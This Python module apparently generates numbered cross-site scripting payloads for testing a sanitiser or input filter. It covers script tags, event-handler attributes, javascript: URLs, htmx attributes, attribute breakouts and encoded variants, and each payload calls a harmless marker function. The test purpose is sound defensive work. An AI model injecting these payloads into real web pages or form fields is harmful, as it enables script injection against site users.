"""A hundred scripts that somebody may write into a field; each would call `xq7`."""

from itertools import product

RUN = "xq7"
_TAGS = (
    *(
        "<script>{}</script>",
        "<ScRiPt>{}</sCrIpT>",
        "<script/x>{}</script>",
        "<<script>{}//<</script>",
    ),
    *(
        "<img src=x onerror={}>",
        "<img/src=x/onerror={}>",
        '<img src="x" onerror="{}">',
        "<img src=x onerror='{}'",
    ),
    *(
        "<svg onload={}>",
        "<svg/onload={}>",
        "<svg><script>{}</script></svg>",
        "<svg><animate onbegin={} attributeName=x>",
    ),
    *(
        "<body onload={}>",
        "<input autofocus onfocus={}>",
        "<select autofocus onfocus={}>",
        "<details open ontoggle={}>",
    ),
    *(
        "<video><source onerror={}>",
        "<audio src=x onerror={}>",
        "<marquee onstart={}>",
        "<iframe srcdoc='<script>{}</script>'>",
    ),
    *(
        '<iframe src="javascript:{}">',
        '<a href="javascript:{}">x</a>',
        '<form action="javascript:{}"><button>x</button></form>',
    ),
    *(
        '<object data="javascript:{}">',
        '<embed src="javascript:{}">',
        '<meta http-equiv=refresh content="0;javascript:{}">',
    ),
    *(
        '<base href="javascript:{}//">',
        "<math><mtext><script>{}</script>",
        "<style>@import 'javascript:{}';</style>",
    ),
    *(
        "<template><script>{}</script></template>",
        "<noscript><p title='</noscript><img src=x onerror={}>'>",
    ),
    *("<div hx-on:load={}>x</div>", "<div hx-get=/ hx-trigger=load hx-vals='js:{{a:{}}}'>x</div>"),
    *(
        "<div data-hx-on--load={}>x</div>",
        "<x onclick={} autofocus tabindex=1 onfocus={}>x",
        "<link rel=stylesheet onerror={} href=x>",
    ),
    *("<button popovertarget=x onbeforetoggle={}>x</button>", "<dialog open onclose={}>x</dialog>"),
)
_OUT = ("", '">', "'>", "</textarea>", "</title>", "-->", "</script>", "]]>")
_ALONE = (
    *(
        '" onmouseover="{}" autofocus onfocus="{}" x="',
        "' onfocus='{}' autofocus '",
        "` onfocus={} `",
    ),
    *(
        "javascript:{}",
        "JaVaScRiPt:{}",
        " \tjavascript:{}",
        "data:text/html,<script>{}</script>",
        "vbscript:{}",
    ),
    *(
        "{{{{{}}}}}",
        "${{{}}}",
        "{{%{}%}}",
        "<%= {} %>",
        "\\u003cscript\\u003e{}\\u003c/script\\u003e",
    ),
    *(
        "&lt;script&gt;{}&lt;/script&gt;",
        "%3Cscript%3E{}%3C/script%3E",
        "＜script＞{}＜/script＞",
        "';{}//",
        '";{}//',
    ),
    *("\u2028{}//", "*/{}/*", "-->{}<!--", "<!--[if gte IE 4]><script>{}</script><![endif]-->"),
)


def scripts() -> list[str]:
    """All of them, each with a number of its own."""
    shapes = [*_ALONE, *_TAGS]
    more = (out + tag for tag, out in product(_TAGS, _OUT[1:]))
    shapes += [shape for number, shape in enumerate(more) if number % 6 == 0]
    return [
        shape.replace("{}", "@").format().replace("@", f"{RUN}({n})")
        for n, shape in enumerate(shapes)
    ]
